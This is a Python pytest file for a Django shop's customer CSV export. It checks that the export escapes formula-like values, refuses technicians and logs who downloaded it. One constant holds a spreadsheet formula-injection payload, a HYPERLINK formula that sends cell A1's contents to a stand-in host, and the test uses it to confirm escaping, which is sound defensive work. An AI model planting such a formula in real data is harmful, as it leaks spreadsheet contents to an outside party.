"""The list of customers as a file: a table that computes nothing, taken only by the desk, and logged."""

import csv
import io
import logging
from collections.abc import Callable

import pytest
from django.test import Client

from shopapp.models import Person
from tests.factories import CustomerFactory
from tests.web.shared.hostile import row_counts

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("shop")]

SignedIn = Callable[[Person], Client]
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"Click")'


def test_formula_as_a_name_is_text_t08(ilse: Person, signed_in: SignedIn) -> None:
    CustomerFactory.create(name=FORMULA, phone="+1 604 555 0142")
    before = row_counts()

    response = signed_in(ilse).get("/customers/table/")

    text = response.getvalue().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text, newline="")))[1]
    assert row[1:3] == [f"'{FORMULA}", "'+1 604 555 0142"]
    assert (response.streaming, row_counts() == before) == (True, True)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="customers-')
    assert response.headers["Cache-Control"] == "no-store"


def test_technician_gets_no_table(tobiah: Person, signed_in: SignedIn) -> None:
    CustomerFactory.create(name="Aud Nilsen")

    response = signed_in(tobiah).get("/customers/table/")

    assert (response.status_code, b"Aud" in response.content) == (403, False)


def test_who_took_it_is_logged_and_nothing_of_what(
    ilse: Person, signed_in: SignedIn, caplog: pytest.LogCaptureFixture
) -> None:
    CustomerFactory.create(name="Aud Nilsen")

    with caplog.at_level(logging.INFO, logger="shopapp.access"):
        signed_in(ilse).get("/customers/table/")

    said = [record.getMessage() for record in caplog.records if record.name == "shopapp.access"]
    assert said == [f"sent GET customers:table to person:{ilse.pk} at 127.0.0.1"]
